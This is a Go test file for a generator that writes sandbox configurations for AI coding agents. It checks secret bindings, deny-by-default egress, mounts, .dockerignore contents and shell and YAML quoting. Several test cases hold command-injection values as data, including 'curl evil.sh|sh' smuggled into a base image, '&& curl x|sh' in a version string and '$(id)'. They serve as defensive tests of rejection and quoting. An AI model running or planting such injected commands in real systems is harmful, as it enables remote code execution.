package generator_test

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"text/template"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"
	"go.yaml.in/yaml/v3"

	"github.com/agents-sandbox/asb/generator"
	"github.com/agents-sandbox/asb/schema"
	"github.com/agents-sandbox/asb/templates"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/ from the current templates")

// optionSets are the golden cases: the defaults, and every flag of
// `asb init` set to something other than its default.
func optionSets() map[string]schema.InitOptions {
	rich := generator.DefaultOptions("opencode", "rich")
	rich.CPUs = 4
	rich.Memory = "8G"
	rich.Secrets = []schema.SecretSpec{
		{Name: "GITHUB_TOKEN", Hosts: []string{"api.github.com", "github.com"}},
		{Name: "NPM_TOKEN", Hosts: []string{"registry.npmjs.org"}},
	}
	rich.Allow = []string{"pypi.org", "*.pythonhosted.org", "github.com"}
	rich.Ports = []string{"5173:5173", "127.0.0.1:8080:80", "9000:9000/udp"}
	rich.BaseImage = "ubuntu:24.04"
	rich.AgentVersion = "1.2.3"

	public := generator.DefaultOptions("opencode", "pub")
	public.Network = schema.NetworkPublic
	public.Secrets = []schema.SecretSpec{{Name: "GITHUB_TOKEN", Hosts: []string{"api.github.com"}}}
	public.Ports = []string{"3000:3000"}

	none := generator.DefaultOptions("opencode", "offline")
	none.Network = schema.NetworkNone

	return map[string]schema.InitOptions{
		"default": generator.DefaultOptions("opencode", "demo"),
		"rich":    rich,
		"public":  public,
		"none":    none,
	}
}

// entry is one file of a plan as the golden files hold it.
type entry struct {
	Path    string
	Mode    string
	Content string
}

func planEntries(p *generator.Plan) []entry {
	var out []entry
	for _, f := range p.Files {
		e := entry{Path: f.Path, Mode: fmt.Sprintf("%04o", f.Mode.Perm()), Content: string(f.Content)}
		if f.Dir {
			e.Path += "/"
		}
		out = append(out, e)
	}
	return out
}

// A golden file is a txtar archive: one member per entry, named "PATH MODE"
// (folders end in "/" and are empty).
func toArchive(comment string, es []entry) []byte {
	a := &txtar.Archive{Comment: []byte(comment)}
	for _, e := range es {
		a.Files = append(a.Files, txtar.File{Name: e.Path + " " + e.Mode, Data: []byte(e.Content)})
	}
	return txtar.Format(a)
}

func fromArchive(t *testing.T, raw []byte) []entry {
	t.Helper()
	var out []entry
	for _, f := range txtar.Parse(raw).Files {
		p, mode, ok := strings.Cut(f.Name, " ")
		if !ok {
			t.Fatalf("golden member %q is not named \"PATH MODE\"", f.Name)
		}
		out = append(out, entry{Path: p, Mode: mode, Content: string(f.Data)})
	}
	return out
}

func mustRender(t *testing.T, opts schema.InitOptions) *generator.Plan {
	t.Helper()
	p, err := generator.Render(templates.FS, opts)
	if err != nil {
		t.Fatalf("Render(%+v): %v", opts, err)
	}
	return p
}

func file(t *testing.T, p *generator.Plan, rel string) string {
	t.Helper()
	f, ok := p.Lookup(rel)
	if !ok || f.Dir {
		t.Fatalf("plan has no file %s", rel)
	}
	return string(f.Content)
}

// TestRenderGolden pins the whole file plan (every path, mode and byte) for
// each option set. After a deliberate template change, regenerate with
// `go test ./generator -update` and review the diff of testdata/.
func TestRenderGolden(t *testing.T) {
	for name, opts := range optionSets() {
		t.Run(name, func(t *testing.T) {
			got := planEntries(mustRender(t, opts))
			golden := filepath.Join("testdata", name+".txtar")
			if *update {
				comment := fmt.Sprintf("Golden plan of `asb init` for %+v.\nRegenerate: go test ./generator -update\n", opts)
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, toArchive(comment, got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			raw, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (create it with: go test ./generator -update)", err)
			}
			if diff := cmp.Diff(fromArchive(t, raw), got); diff != "" {
				t.Errorf("plan differs from %s (-golden +rendered); if the change is intended, run go test ./generator -update:\n%s", golden, diff)
			}
		})
	}
}

func TestRenderPlanShape(t *testing.T) {
	p := mustRender(t, generator.DefaultOptions("opencode", "demo"))
	want := map[string]string{
		".gitignore": "0644", "README.md": "0644", "Taskfile.yml": "0644",
		"opencode/": "0755", "opencode/.gitignore": "0644", "opencode/opencode.json": "0644", "opencode/tui.json": "0644",
		"sandbox.yaml": "0644", "secrets.env": "0600", "secrets.yaml": "0644",
		"toolchain/": "0755", "toolchain/.dockerignore": "0644", "toolchain/Dockerfile": "0644",
		"toolchain/certs/": "0755", "toolchain/certs/README.md": "0644",
		"toolchain/containers.conf": "0644", "workspace/": "0755",
		"asb.yaml": "0644", ".schemas/": "0755", ".schemas/sandbox.schema.json": "0644", ".schemas/secrets.schema.json": "0644",
	}
	got := map[string]string{}
	var paths []string
	for _, e := range planEntries(p) {
		paths = append(paths, e.Path)
		if !strings.HasPrefix(e.Path, schema.BaseDir+"/") {
			got[e.Path] = e.Mode
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("paths and modes (-want +got):\n%s", diff)
	}
	// Every file asb writes but secrets.env (the user's) and the record
	// itself has its bytes kept in .asb-base/, the base of asb update.
	for _, f := range p.Files {
		if f.Dir || f.Path == "secrets.env" || f.Path == schema.RecordFile || strings.HasPrefix(f.Path, schema.BaseDir+"/") {
			continue
		}
		if b, ok := p.Lookup(generator.BasePath(f.Path)); !ok || !bytes.Equal(b.Content, f.Content) {
			t.Errorf("%s has no base copy in %s", f.Path, generator.BasePath(f.Path))
		}
	}
	if _, ok := p.Lookup(generator.BasePath("secrets.env")); ok {
		t.Error("secrets.env has a base copy: its values must stay out of the repository")
	}
	if !slices.IsSorted(paths) {
		t.Errorf("plan is not sorted by path: %v", paths)
	}
	env, _ := p.Lookup("secrets.env")
	if !env.Preserve {
		t.Error("secrets.env is not marked Preserve: --force could overwrite real credentials")
	}
	for _, f := range p.Files {
		if f.Preserve && f.Path != "secrets.env" {
			t.Errorf("%s is marked Preserve", f.Path)
		}
		if strings.HasSuffix(f.Path, ".tmpl") || strings.Contains(f.Path, "dot-") {
			t.Errorf("template name leaked into the plan: %s", f.Path)
		}
	}
}

// TestRenderFlagsReachFiles checks that each flag lands in the line it
// should, in the rich option set.
func TestRenderFlagsReachFiles(t *testing.T) {
	p := mustRender(t, optionSets()["rich"])
	sb := file(t, p, "sandbox.yaml")
	for _, line := range []string{
		"\ncpus: 4\n",
		"\nmemory: \"8G\"\n",
		"\nimage: \"rich:opencode-latest\"\n",
		"  strict: false\n  allow:\n" +
			"    - \"opencode.ai\"\n    - \"api.github.com\"\n    - \"github.com\"\n" +
			"    - \"registry.npmjs.org\"\n    - \"pypi.org\"\n    - \"*.pythonhosted.org\"\n",
		"\nports:\n  - \"5173:5173\"\n  - \"127.0.0.1:8080:80\"\n  - \"9000:9000/udp\"\n",
	} {
		if !strings.Contains(sb, line) {
			t.Errorf("sandbox.yaml lacks %q:\n%s", line, sb)
		}
	}
	if n := strings.Count(sb, `"github.com"`); n != 1 {
		t.Errorf("github.com (a secret host and an --allow) is listed %d times; want 1", n)
	}

	sec := file(t, p, "secrets.yaml")
	for _, name := range []string{"OPENCODE_API_KEY", "GITHUB_TOKEN", "NPM_TOKEN"} {
		want := fmt.Sprintf("\n%s:\n  value: \"${%s}\"\n", name, name)
		if !strings.Contains(sec, want) {
			t.Errorf("secrets.yaml lacks %q", want)
		}
	}
	if !strings.Contains(sec, "\nGITHUB_TOKEN:\n  value: \"${GITHUB_TOKEN}\"\n  allow:\n    - \"api.github.com\"\n    - \"github.com\"\n  substitution:\n    headers: true\n") {
		t.Errorf("GITHUB_TOKEN binding is not as expected:\n%s", sec)
	}
	if n := strings.Count(sec, "headers: true"); n != 3 {
		t.Errorf("headers: true appears %d times, want once per secret (3)", n)
	}

	env := file(t, p, "secrets.env")
	for _, name := range []string{"OPENCODE_API_KEY", "GITHUB_TOKEN", "NPM_TOKEN"} {
		if !strings.Contains(env, "\n# "+name+"=\n") {
			t.Errorf("secrets.env lacks a commented %s= line:\n%s", name, env)
		}
	}
	for _, line := range strings.Split(strings.TrimSpace(env), "\n") {
		if !strings.HasPrefix(line, "#") {
			t.Errorf("secrets.env has an active line %q: asb must never write a value", line)
		}
	}

	df := file(t, p, "toolchain/Dockerfile")
	for _, line := range []string{"\nARG BASE_IMAGE=ubuntu:24.04\n", "\nARG AGENT_VERSION=1.2.3\n", "npm install -g opencode-ai@${AGENT_VERSION}"} {
		if !strings.Contains(df, line) {
			t.Errorf("Dockerfile lacks %q", line)
		}
	}

	readme := file(t, p, "README.md")
	for _, s := range []string{"`GITHUB_TOKEN` → `api.github.com`, `github.com`", "`*.pythonhosted.org`"} {
		if !strings.Contains(readme, s) {
			t.Errorf("README.md lacks %q", s)
		}
	}
}

func TestRenderNetworkModes(t *testing.T) {
	sets := optionSets()
	pub := file(t, mustRender(t, sets["public"]), "sandbox.yaml")
	if !strings.Contains(pub, "\nnetwork: public\n") || strings.Contains(pub, "allow:") {
		t.Errorf("--network public: sandbox.yaml network is not the bare string public:\n%s", pub)
	}
	if !strings.Contains(pub, "\nports:\n  - \"3000:3000\"\n") {
		t.Errorf("--network public lost --port:\n%s", pub)
	}
	none := file(t, mustRender(t, sets["none"]), "sandbox.yaml")
	if !strings.HasSuffix(none, "\nnetwork: none\n") {
		t.Errorf("--network none: sandbox.yaml does not end in network: none:\n%s", none)
	}
	def := file(t, mustRender(t, sets["default"]), "sandbox.yaml")
	if !strings.Contains(def, "\n  strict: false\n  allow:\n    - \"opencode.ai\"\n") || strings.Contains(def, "ports:") {
		t.Errorf("default sandbox.yaml: want only the agent's host allowed and no ports:\n%s", def)
	}
}

// secretKeys are the keys msb 0.7.2 accepts in a --secret-conf binding
// (it rejects header_fields, for one).
var secretKeys = []string{"value", "placeholder", "allow", "substitution", "passthrough", "violation_action", "require_tls_identity"}

// problems collects what is wrong with a rendered plan.
type problems []string

func (ps *problems) add(format string, args ...any) { *ps = append(*ps, fmt.Sprintf(format, args...)) }

func planFile(p *generator.Plan, rel string) (string, bool) {
	f, ok := p.Lookup(rel)
	return string(f.Content), ok && !f.Dir
}

func decodeStrict(text string, v any) error {
	dec := yaml.NewDecoder(strings.NewReader(text))
	dec.KnownFields(true)
	return dec.Decode(v)
}

// topKeys returns the keys of the YAML mapping at the top of text.
func topKeys(text string) (map[string]*yaml.Node, error) {
	var doc yaml.Node
	if err := yaml.Unmarshal([]byte(text), &doc); err != nil {
		return nil, err
	}
	if len(doc.Content) != 1 || doc.Content[0].Kind != yaml.MappingNode {
		return nil, errors.New("not one YAML mapping")
	}
	m := doc.Content[0]
	out := map[string]*yaml.Node{}
	for i := 0; i+1 < len(m.Content); i += 2 {
		out[m.Content[i].Value] = m.Content[i+1]
	}
	return out, nil
}

// msbProblems holds the generated sandbox.yaml and secrets.yaml to what msb
// 0.7.2 accepts, and the boundary to what asb promises: no mount exposes the
// outer folder or secrets.env, egress is as the flags say, and the image
// build context holds only the Dockerfile and containers.conf.
func msbProblems(p *generator.Plan, opts schema.InitOptions) problems {
	var ps problems
	sbText, ok := planFile(p, "sandbox.yaml")
	if !ok {
		ps.add("no sandbox.yaml")
		return ps
	}
	var sb schema.Sandbox
	if err := decodeStrict(sbText, &sb); err != nil {
		ps.add("sandbox.yaml does not decode strictly into schema.Sandbox: %v", err)
	} else if err := schema.NewValidator().Struct(&sb); err != nil {
		ps.add("sandbox.yaml fails schema validation: %v", schema.Explain(err, ""))
	}
	keys, err := topKeys(sbText)
	if err != nil {
		ps.add("sandbox.yaml: %v", err)
	}
	for k := range keys {
		if !slices.Contains(schema.SandboxKeys, k) {
			ps.add("sandbox.yaml uses top-level key %q, which msb 0.7.2 rejects", k)
		}
	}
	if sb.CPUs != opts.CPUs || sb.Memory != opts.Memory {
		ps.add("sandbox.yaml cpus/memory = %d/%q, want %d/%q", sb.CPUs, sb.Memory, opts.CPUs, opts.Memory)
	}
	if diff := cmp.Diff(opts.Ports, sb.Ports); diff != "" {
		ps.add("ports (-flags +sandbox.yaml):\n%s", diff)
	}
	ps = append(ps, mountProblems(p, sb.Mounts)...)
	ps = append(ps, networkProblems(opts, sb.Network)...)

	secText, ok := planFile(p, "secrets.yaml")
	if !ok {
		ps.add("no secrets.yaml")
		return ps
	}
	var sec schema.Secrets
	if err := decodeStrict(secText, &sec); err != nil {
		ps.add("secrets.yaml does not decode strictly into schema.Secrets: %v", err)
	}
	secNodes, err := topKeys(secText)
	if err != nil {
		ps.add("secrets.yaml: %v", err)
	}
	for secName, node := range secNodes {
		if node.Kind != yaml.MappingNode {
			ps.add("secret %s is not a mapping", secName)
			continue
		}
		for i := 0; i < len(node.Content); i += 2 {
			if k := node.Content[i].Value; !slices.Contains(secretKeys, k) {
				ps.add("secret %s uses key %q, which msb 0.7.2 rejects", secName, k)
			}
		}
	}
	want := []string{"OPENCODE_API_KEY"}
	for _, s := range opts.Secrets {
		want = append(want, s.Name)
	}
	var got []string
	for k, s := range sec {
		got = append(got, k)
		if v, ok := schema.EnvRef(s.Value); !ok || v != k {
			ps.add("secret %s: value %q is not \"${%s}\" (a literal would be stored in plain text)", k, s.Value, k)
		}
		if len(s.Allow) == 0 {
			ps.add("secret %s has no allow hosts", k)
		}
		if s.Substitution == nil || s.Substitution.Headers == nil || !*s.Substitution.Headers {
			ps.add("secret %s: substitution.headers is not true", k)
		}
		if err := schema.NewValidator().Struct(&s); err != nil {
			ps.add("secret %s fails schema validation: %v", k, err)
		}
	}
	slices.Sort(want)
	slices.Sort(got)
	if diff := cmp.Diff(want, got); diff != "" {
		ps.add("secrets (-want +got):\n%s", diff)
	}
	return append(ps, dockerignoreProblems(p)...)
}

func mountProblems(p *generator.Plan, mounts []schema.Mount) problems {
	var ps problems
	targets := map[string]bool{}
	for _, m := range mounts {
		targets[m.Target] = m.Readonly
		if m.Bind == "" {
			continue
		}
		b := m.Bind
		if path.IsAbs(b) {
			ps.add("mount %q: an absolute bind reaches outside the outer folder", b)
			continue
		}
		c := path.Clean(b)
		if c == "." || c == ".." || strings.HasPrefix(c, "../") {
			ps.add("mount %q exposes the outer folder (or what is above it) to the VM", b)
			continue
		}
		for _, f := range p.Files {
			if path.Base(f.Path) == "secrets.env" && (f.Path == c || strings.HasPrefix(f.Path, c+"/")) {
				ps.add("mount %q holds %s", b, f.Path)
			}
		}
	}
	if ro, ok := targets["/workspace"]; !ok || ro {
		ps.add("/workspace is not mounted read-write: %v", targets)
	}
	if ro, ok := targets["/home/dev/.config/opencode"]; !ok || !ro {
		ps.add("the agent config is not mounted read-only: %v", targets)
	}
	return ps
}

func networkProblems(opts schema.InitOptions, nw *schema.Network) problems {
	var ps problems
	if nw == nil {
		ps.add("sandbox.yaml has no network key: msb would allow the public internet")
		return ps
	}
	switch opts.Network {
	case schema.NetworkAllow:
		if !nw.EgressDenied() || nw.Short {
			ps.add("--network allow: egress is not deny-by-default: %+v", nw)
		}
		for _, h := range opts.Allow {
			if !slices.Contains(nw.Allow, h) {
				ps.add("--allow %s is missing from network.allow %v", h, nw.Allow)
			}
		}
		for _, s := range opts.Secrets {
			for _, h := range s.Hosts {
				if !slices.Contains(nw.Allow, h) {
					ps.add("secret host %s is missing from network.allow %v", h, nw.Allow)
				}
			}
		}
	case schema.NetworkPublic, schema.NetworkNone:
		if !nw.Short || nw.Policy != opts.Network {
			ps.add("--network %s: got %+v", opts.Network, nw)
		}
	}
	return ps
}

// dockerignoreProblems evaluates toolchain/.dockerignore the way docker
// does (the last matching pattern wins, "!" re-includes) over the toolchain
// files and a few that must never reach an image.
func dockerignoreProblems(p *generator.Plan) problems {
	var ps problems
	text, ok := planFile(p, "toolchain/.dockerignore")
	if !ok {
		ps.add("no toolchain/.dockerignore")
		return ps
	}
	var patterns []string
	for _, l := range strings.Split(text, "\n") {
		if l = strings.TrimSpace(l); l != "" && !strings.HasPrefix(l, "#") {
			patterns = append(patterns, l)
		}
	}
	candidates := []string{"secrets.env", "secrets.yaml", ".env", "id_rsa", ".git/config", "node_modules/x"}
	for _, f := range p.Files {
		if rest, ok := strings.CutPrefix(f.Path, "toolchain/"); ok && !f.Dir {
			candidates = append(candidates, rest)
		}
	}
	var sent []string
	for _, c := range candidates {
		excluded := false
		for _, pat := range patterns {
			neg := strings.HasPrefix(pat, "!")
			pat = strings.TrimPrefix(pat, "!")
			// A pattern matching a folder excludes all below it.
			for q := c; q != "."; q = path.Dir(q) {
				if m, err := path.Match(pat, q); err != nil {
					ps.add("bad .dockerignore pattern %q: %v", pat, err)
				} else if m {
					excluded = !neg
					break
				}
			}
		}
		if !excluded {
			sent = append(sent, c)
		}
	}
	slices.Sort(sent)
	if diff := cmp.Diff([]string{"Dockerfile", "certs/README.md", "containers.conf"}, sent); diff != "" {
		ps.add("files the build context sends (-want +got):\n%s", diff)
	}
	return ps
}

func TestRenderedConfigIsWhatMsbAccepts(t *testing.T) {
	for name, opts := range optionSets() {
		t.Run(name, func(t *testing.T) {
			for _, pr := range msbProblems(mustRender(t, opts), opts) {
				t.Error(pr)
			}
		})
	}
}

// TestMsbChecksCatchMistakes proves the checks above can fail: each
// mutation of the template tree is a mistake they must report.
func TestMsbChecksCatchMistakes(t *testing.T) {
	mutations := []struct {
		name, file, old, new, want string
	}{
		{"header_fields", "base/secrets.yaml.tmpl", "  substitution:", "  header_fields: [Authorization]\n  substitution:", `uses key "header_fields"`},
		{"unknown top key", "base/sandbox.yaml.tmpl", "workdir: /workspace", "workdir: /workspace\nbogus: 1", `top-level key "bogus"`},
		{"bind the outer folder", "base/sandbox.yaml.tmpl", "bind: ./workspace", "bind: .", "exposes the outer folder"},
		{"bind above", "base/sandbox.yaml.tmpl", "bind: ./workspace", "bind: ../x", "exposes the outer folder"},
		{"bind root", "base/sandbox.yaml.tmpl", "bind: ./workspace", "bind: /", "absolute bind"},
		{"literal value", "base/secrets.yaml.tmpl", `value: [[ yq (print "${" .Name "}") ]]`, `value: "sk-123"`, `is not "${`},
		{"headers off", "base/secrets.yaml.tmpl", "headers: true", "headers: false", "substitution.headers is not true"},
		{"context sends all", "base/toolchain/dot-dockerignore.tmpl", "\n*\n", "\n", "files the build context sends"},
		{"allow list dropped", "base/sandbox.yaml.tmpl", "strict: false\n  allow:", "strict: false\n  policy: public\n  allow:", "egress is not deny-by-default"},
		{"config rw", "base/sandbox.yaml.tmpl", "    readonly: true", "    readonly: false", "not mounted read-only"},
	}
	opts := optionSets()["rich"]
	for _, m := range mutations {
		t.Run(m.name, func(t *testing.T) {
			tree := mutate(t, m.file, m.old, m.new)
			p, err := generator.Render(tree, opts)
			if err != nil {
				t.Fatal(err)
			}
			ps := msbProblems(p, opts)
			if !slices.ContainsFunc(ps, func(s string) bool { return strings.Contains(s, m.want) }) {
				t.Errorf("the checks missed a mutation; want a problem containing %q, got %q", m.want, ps)
			}
		})
	}
}

// mutate copies the template tree with one replacement in one file.
func mutate(t *testing.T, name, old, new string) fstest.MapFS {
	t.Helper()
	tree := fstest.MapFS{}
	err := fs.WalkDir(templates.FS, ".", func(p string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		raw, err := fs.ReadFile(templates.FS, p)
		tree[p] = &fstest.MapFile{Data: raw, Mode: 0o644}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	f, ok := tree[name]
	if !ok || !bytes.Contains(f.Data, []byte(old)) {
		t.Fatalf("%s does not hold %q: update the mutation", name, old)
	}
	f.Data = bytes.Replace(f.Data, []byte(old), []byte(new), 1)
	return tree
}

func TestRenderRejectsBadOptions(t *testing.T) {
	mod := func(f func(*schema.InitOptions)) schema.InitOptions {
		o := generator.DefaultOptions("opencode", "demo")
		f(&o)
		return o
	}
	cases := []struct {
		name string
		opts schema.InitOptions
		want string
	}{
		{"unknown agent", mod(func(o *schema.InitOptions) { o.Agent = "claude" }), `--agent "claude" is not a known agent; choose one of: claude-code, codex, gemini-cli, opencode, pi`},
		{"hostile name", mod(func(o *schema.InitOptions) { o.Name = `x"; touch /tmp/p; echo "` }), `--name`},
		{"agent key rebound", mod(func(o *schema.InitOptions) {
			o.Secrets = []schema.SecretSpec{{Name: "OPENCODE_API_KEY", Hosts: []string{"evil.example.com"}}}
		}), "already bound to opencode.ai"},
		{"duplicate secret", mod(func(o *schema.InitOptions) {
			o.Secrets = []schema.SecretSpec{{Name: "A", Hosts: []string{"a.com"}}, {Name: "A", Hosts: []string{"b.com"}}}
		}), "each secret may be bound once"},
		{"none with allow", mod(func(o *schema.InitOptions) { o.Network = "none"; o.Allow = []string{"a.com"} }), "--network none blocks every host"},
		{"public with allow", mod(func(o *schema.InitOptions) { o.Network = "public"; o.Allow = []string{"pypi.org"} }), "--network public already allows every public host"},
		{"memory too small", mod(func(o *schema.InitOptions) { o.Memory = "100M" }), "at least 256M"},
		{"hostile base image", mod(func(o *schema.InitOptions) { o.BaseImage = "debian\nRUN curl evil.sh|sh" }), "--base-image"},
		{"hostile agent version", mod(func(o *schema.InitOptions) { o.AgentVersion = "1.0 && curl x|sh" }), "--agent-version"},
		{"ip host", mod(func(o *schema.InitOptions) { o.Allow = []string{"10.0.0.1"} }), "--allow[0]"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p, err := generator.Render(templates.FS, c.opts)
			if err == nil {
				t.Fatalf("Render succeeded with %d files; want an error containing %q", len(p.Files), c.want)
			}
			if !strings.Contains(err.Error(), c.want) {
				t.Errorf("error %q does not contain %q", err, c.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("error is not one line: %q", err)
			}
		})
	}
	var ua *generator.UnknownAgentError
	_, err := generator.Render(templates.FS, cases[0].opts)
	if !errors.As(err, &ua) || !slices.Equal(ua.Known, []string{"claude-code", "codex", "gemini-cli", "opencode", "pi"}) {
		t.Errorf("unknown agent: error %v is not an UnknownAgentError listing the presets", err)
	}
}

// TestShellQuote runs each quoted word through a real shell.
func TestShellQuote(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	for _, s := range []string{"", "plain", "a b", `x"; touch /tmp/p; echo "`, "it's", "$(id)", "`id`", "a\nb", "*", "-n", "'", `\`} {
		out, err := exec.Command(sh, "-c", "printf %s "+generator.ShellQuote(s)).Output()
		if err != nil {
			t.Fatalf("sh -c printf %s: %v", generator.ShellQuote(s), err)
		}
		if string(out) != s {
			t.Errorf("ShellQuote(%q) = %s; the shell read it back as %q", s, generator.ShellQuote(s), out)
		}
	}
}

// TestShellWordInYAMLSingleQuotes renders a word as the Taskfile's agent
// line does ('... [[ sq . | ysq ]] ...', a YAML single-quoted scalar that
// go-task hands to a shell) and reads it back through both.
func TestShellWordInYAMLSingleQuotes(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	tmpl := template.Must(template.New("").Delims("[[", "]]").Funcs(generator.Funcs()).Parse(`k: 'printf %s [[ sq . | ysq ]]'` + "\n"))
	for _, s := range []string{"plain", "it's", "''", `a'b"c`, "$(id)", "a b"} {
		var b bytes.Buffer
		if err := tmpl.Execute(&b, s); err != nil {
			t.Fatal(err)
		}
		var m map[string]string
		if err := yaml.Unmarshal(b.Bytes(), &m); err != nil {
			t.Fatalf("%q: the YAML %s does not parse: %v", s, b.String(), err)
		}
		out, err := exec.Command(sh, "-c", m["k"]).Output()
		if err != nil || string(out) != s {
			t.Errorf("%q: YAML %s ran as %q (%v)", s, b.String(), out, err)
		}
	}
}

// TestYAMLQuote checks yq against a YAML parser for values that would break
// a plain scalar.
func TestYAMLQuote(t *testing.T) {
	yq := generator.Funcs()["yq"].(func(any) (string, error))
	for _, s := range []string{"plain", "yes", "no", "null", "~", "8G", "0x10", "a: b", "- x", "# c", "${X}", "*.example.com", "\"", "'", "a\nb", "{a}", "[a]", "&a", "!tag", "%x", "@x", "`x`"} {
		q, err := yq(s)
		if err != nil {
			t.Fatal(err)
		}
		var m map[string]any
		if err := yaml.Unmarshal([]byte("k: "+q+"\n"), &m); err != nil {
			t.Fatalf("yq(%q) = %s: not valid YAML: %v", s, q, err)
		}
		if got := m["k"]; got != s {
			t.Errorf("yq(%q) = %s, which YAML reads as %#v", s, q, got)
		}
	}
}

// TestTemplatesAllRender guards the template tree itself: every member is
// used, and none renders empty.
func TestTemplatesAllRender(t *testing.T) {
	p := mustRender(t, optionSets()["rich"])
	var count int
	err := fs.WalkDir(templates.FS, "base", func(_ string, e fs.DirEntry, err error) error {
		if err == nil && !e.IsDir() {
			count++
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	files := 0
	for _, f := range p.Files {
		if f.Path == schema.RecordFile || strings.HasPrefix(f.Path, schema.BaseDir+"/") || strings.HasPrefix(f.Path, schema.SchemaDir+"/") {
			continue // the record, the bases and the schemas: not templates
		}
		if !f.Dir {
			files++
			if len(bytes.TrimSpace(f.Content)) == 0 {
				t.Errorf("%s renders empty", f.Path)
			}
			if strings.Contains(string(f.Content), "[[") {
				t.Errorf("%s holds an unrendered [[", f.Path)
			}
		}
	}
	agentFiles := 0 // opencode/opencode.json, tui.json, .gitignore
	_ = fs.WalkDir(templates.FS, "agents/opencode/config", func(_ string, e fs.DirEntry, err error) error {
		if err == nil && !e.IsDir() {
			agentFiles++
		}
		return err
	})
	if agentFiles < 3 {
		t.Fatalf("the opencode preset's config has %d files; it ships at least opencode.json, tui.json and .gitignore", agentFiles)
	}
	if files != count+agentFiles {
		t.Errorf("plan has %d files; templates/base has %d and the agent config %d", files, count, agentFiles)
	}
}
